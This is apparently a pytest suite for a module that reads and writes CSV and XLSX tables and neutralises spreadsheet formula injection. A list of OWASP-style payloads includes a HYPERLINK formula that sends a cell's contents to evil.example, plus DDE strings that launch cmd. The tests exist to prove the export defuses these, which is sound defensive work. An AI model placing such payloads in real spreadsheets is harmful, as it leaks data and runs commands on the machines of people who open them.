"""Reading and writing CSV and XLSX tables, and neutralising formula injection."""

import datetime
import io
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from loti.core.spreadsheets import neutralise, read_table, write_csv, write_xlsx

# OWASP's CSV-injection examples and their relatives.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]


def xlsx(rows, title="Sheet"):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# Reading ---------------------------------------------------------------------------------


def test_reads_csv_with_and_without_a_byte_order_mark():
    data = "product, vendor \nCivica CX,Civica\n"
    for encoded in (data.encode(), data.encode("utf-8-sig")):
        table = read_table(encoded, "estate.csv")
        assert table.headers == ["product", "vendor"]
        assert table.rows == [(2, {"product": "Civica CX", "vendor": "Civica"})]


def test_skips_blank_rows_but_keeps_spreadsheet_row_numbers():
    data = b"\n\nproduct,vendor\n,\nA,B\n  ,  \n\nC,\n"
    table = read_table(data, "ESTATE.CSV")
    assert table.header_row == 3
    assert table.rows == [(5, {"product": "A", "vendor": "B"}), (8, {"product": "C", "vendor": ""})]


def test_short_and_long_rows_are_fitted_to_the_headers():
    table = read_table(b"a,b,c\n1\n1,2,3,4\n", "x.csv")
    assert table.rows == [(2, {"a": "1", "b": "", "c": ""}), (3, {"a": "1", "b": "2", "c": "3"})]


def test_a_quoted_cell_may_span_lines_and_hold_commas():
    table = read_table(b'a,b\n"one, two","line\nbreak"\nx,y\n', "x.csv")
    assert table.rows[0] == (2, {"a": "one, two", "b": "line\nbreak"})
    assert table.rows[1][0] == 3


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ("naïve,café\n".encode("latin-1"), "must be saved as UTF-8"),
        (b"PK\x03\x04\x00\x00binary", "is not a CSV file"),
        (b"", "is empty"),
        (b"\n , \n", "is empty"),
    ],
)
def test_unreadable_csv_says_why(data, message):
    with pytest.raises(ValueError, match=message):
        read_table(data, "estate.csv")


def test_other_file_types_are_refused():
    with pytest.raises(ValueError, match="must be a CSV or XLSX file"):
        read_table(b"a,b", "estate.xls")
    with pytest.raises(ValueError, match="must be a CSV or XLSX file"):
        read_table(b"a,b", "estate")


def test_a_broken_xlsx_says_why():
    with pytest.raises(ValueError, match="could not be read as an XLSX spreadsheet"):
        read_table(b"this is not a zip file", "estate.xlsx")


def test_reads_the_first_sheet_of_an_xlsx_converting_numbers_and_dates():
    data = xlsx(
        [
            [" product ", "users", "value", "since", "at", "flag"],
            ["Civica CX", 250, 30000.5, datetime.date(2027, 3, 31), None, True],
            [None, None, None, None, None, None],
            [
                "Idox",
                12.0,
                1e20,
                datetime.datetime(2020, 1, 2, 0, 0),
                datetime.datetime(2020, 1, 2, 9, 30),
                False,
            ],
        ]
    )
    table = read_table(data, "estate.xlsx")
    assert table.headers == ["product", "users", "value", "since", "at", "flag"]
    assert table.rows == [
        (
            2,
            {
                "product": "Civica CX",
                "users": "250",
                "value": "30000.5",
                "since": "2027-03-31",
                "at": "",
                "flag": "TRUE",
            },
        ),
        (
            4,
            {
                "product": "Idox",
                "users": "12",
                "value": "100000000000000000000",
                "since": "2020-01-02",
                "at": "2020-01-02 09:30:00",
                "flag": "FALSE",
            },
        ),
    ]


def test_xlsx_rows_keep_their_numbers_on_the_sheet():
    workbook = Workbook()
    sheet = workbook.active
    sheet["B3"] = "product"
    sheet["B5"] = "Civica CX"
    buffer = io.BytesIO()
    workbook.save(buffer)
    table = read_table(buffer.getvalue(), "x.xlsx")
    assert table.header_row == 3
    assert table.rows == [(5, {"product": "Civica CX"})]


# Neutralising ----------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_a_quote_to_formula_triggers(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Civica", "", "1+1", "a=b", " =1", "'=1", "£30,000"])
def test_neutralise_leaves_other_text_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize(
    "value", [-5, Decimal("-1.50"), 3.5, None, datetime.date(2027, 1, 1), True]
)
def test_neutralise_leaves_non_text_alone(value):
    assert neutralise(value) is value


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_export_neutralises_every_text_cell(payload):
    data = write_csv(["notes", payload], [[payload, -5]])
    table = read_table(data, "export.csv")
    assert table.headers == ["notes", ("'" + payload).strip()]
    cells = list(table.rows[0][1].values())
    assert cells[0] == "'" + payload
    assert cells[1] == "-5"  # a number is not text, and is not a formula


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_export_neutralises_text_and_holds_no_formulas(payload):
    data = write_xlsx(["notes", "value"], [[payload, Decimal("-5.25")]])
    sheet = load_workbook(io.BytesIO(data)).active
    cell = sheet["A2"]
    assert cell.data_type == "s"
    # openpyxl writes through lxml (a runtime dependency, for python-docx), which keeps a
    # lone carriage return as written.
    assert cell.value == "'" + payload
    assert sheet["B2"].data_type == "n" and sheet["B2"].value == -5.25
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_csv_is_utf8_with_a_bom_for_excel_and_writes_plain_values():
    data = write_csv(
        ["a", "b", "c", "d", "e"],
        [[None, True, datetime.date(2027, 3, 31), Decimal("30000.00"), "Café"]],
    )
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == "a,b,c,d,e\r\n,yes,2027-03-31,30000.00,Café\r\n"


def test_xlsx_has_its_extra_sheets_and_drops_characters_xlsx_cannot_hold():
    data = write_xlsx(
        ["a"],
        [["bell\x07"]],
        sheet_title="Systems",
        extra_sheets=[("Guidance", ["Column", "What to enter"], [["a", "Anything"]])],
    )
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Systems", "Guidance"]
    assert workbook["Systems"]["A2"].value == "bell"
    assert [c.value for c in workbook["Guidance"][2]] == ["a", "Anything"]


# Round trips -----------------------------------------------------------------------------

SAFE_TEXT = st.text(
    alphabet=st.characters(
        blacklist_categories=["Cs", "Cc"], blacklist_characters="\u2028\u2029\x85"
    ),
    max_size=30,
)
HEADERS = st.lists(
    st.text(alphabet="abcdefghijklmnopqrstuvwxyz_ ", min_size=1, max_size=12)
    .map(str.strip)
    .filter(bool),
    min_size=1,
    max_size=5,
    unique=True,
)


@st.composite
def tables(draw, text=SAFE_TEXT):
    headers = draw(HEADERS)
    rows = draw(
        st.lists(
            st.lists(text, min_size=len(headers), max_size=len(headers)).filter(
                lambda row: any(cell.strip() for cell in row)
            ),
            max_size=6,
        )
    )
    return headers, rows


def expected(headers, rows):
    return [
        (number, dict(zip(headers, [neutralise(cell) for cell in row], strict=True)))
        for number, row in enumerate(rows, start=2)
    ]


@settings(max_examples=75, deadline=None)
@given(
    tables(
        text=st.one_of(SAFE_TEXT, st.sampled_from(PAYLOADS), SAFE_TEXT.map(lambda t: t + "\n" + t))
    )
)
def test_csv_round_trip_gives_back_the_neutralised_table(table):
    headers, rows = table
    read = read_table(write_csv(headers, rows), "t.csv")
    assert read.headers == headers
    assert read.rows == expected(headers, rows)


# openpyxl writes a cell of spaces alone without xml:space="preserve", so it reads back
# blank, which is what it is; "_x0041_" is XLSX's escape for "A".
XLSX_TEXT = st.text(
    alphabet=st.characters(
        blacklist_categories=["Cs", "Cc"], blacklist_characters="\u2028\u2029\x85_"
    ),
    max_size=30,
).filter(lambda text: text == "" or text.strip())


@settings(max_examples=50, deadline=None)
@given(tables(text=st.one_of(XLSX_TEXT, st.sampled_from([p for p in PAYLOADS if "\r" not in p]))))
def test_xlsx_round_trip_gives_back_the_neutralised_table(table):
    headers, rows = table
    read = read_table(write_xlsx(headers, rows), "t.xlsx")
    assert read.headers == headers
    assert read.rows == expected(headers, rows)


@settings(max_examples=50, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.integers(min_value=-(10**12), max_value=10**12),
            st.decimals(min_value=-(10**9), max_value=10**9, places=2),
            st.dates(min_value=datetime.date(1901, 1, 1)),
        ),
        min_size=1,
        max_size=5,
    )
)
def test_numbers_and_dates_round_trip_through_xlsx_as_people_would_type_them(values):
    headers = [f"c{i}" for i in range(len(values))]
    read = read_table(write_xlsx(headers, [values]), "t.xlsx")
    cells = read.rows[0][1]
    for header, value in zip(headers, values, strict=True):
        if isinstance(value, datetime.date):
            assert cells[header] == value.isoformat()
        else:
            assert Decimal(cells[header]) == value
